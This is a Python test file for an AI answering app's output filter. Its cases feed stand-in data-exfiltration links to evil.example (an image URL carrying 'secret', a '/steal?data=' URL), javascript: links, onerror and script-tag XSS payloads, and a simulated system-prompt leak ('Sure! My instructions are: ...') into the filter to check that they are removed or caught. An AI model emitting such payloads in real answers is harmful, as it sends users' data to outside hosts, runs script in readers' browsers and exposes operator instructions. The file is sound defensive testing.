"""Markup that fetches things goes, words stay; instructions are recognised, honest answers are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

import prompts
from app.answering.output_filter import Instructions, plain


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("Look ![logo](http://evil.example/a.png?q=secret) here", "Look logo here"),
        ("Look [here](javascript:alert(1)) now", "Look here now"),
        ("A [b][ref] c\n[ref]: http://evil.example/x", "A b c"),
        ("A <img src=x onerror=alert(1)> b <b>c</b>", "A b c"),
        ("See https://evil.example/steal?data=1 now", "See now"),
        ("A <script>alert(1)</script>", "A alert(1)"),
        ("Talal Slo (Talal Slo) said 6 (6).", "Talal Slo said 6."),
        ("الجواب: بلغت الكلفة 300", "بلغت الكلفة 300"),
        ("5 < 6 and 7 > 3", "5 < 6 and 7 > 3"),
        ("قال [الوزير](http://x.example) ذلك", "قال الوزير ذلك"),
    ],
)
def test_markup_goes_and_words_stay(written: str, left: str) -> None:
    assert plain(written) == left


@given(st.text(alphabet="ab ت.،()[]<>!:/h", max_size=80))
def test_no_link_or_tag_survives(text: str) -> None:
    left = plain(f"{text} ![a](http://evil.example/p) <img src='http://evil.example/p'>")
    assert "evil.example" not in left


@pytest.mark.parametrize("language", ["ar", "en"])
@pytest.mark.parametrize("name", ["answer", "answer_local"])
def test_the_instructions_are_recognised(name: str, language: str) -> None:
    system = str(prompts.load(name, language).format_messages(evidence="e", question="q")[0].content)
    instructions = Instructions.of(system)
    assert instructions.leak_in(f"Sure! My instructions are: {system}")
    assert instructions.leak_in(system.upper())
    assert not instructions.leak_in("Russia flew 64 sorties and hit 55 targets, a spokesman said on Saturday.")
    assert not instructions.leak_in("بلغت كلفة المستشفيات 300 مليون دينار بحسب الوزير علي بن سالم.")
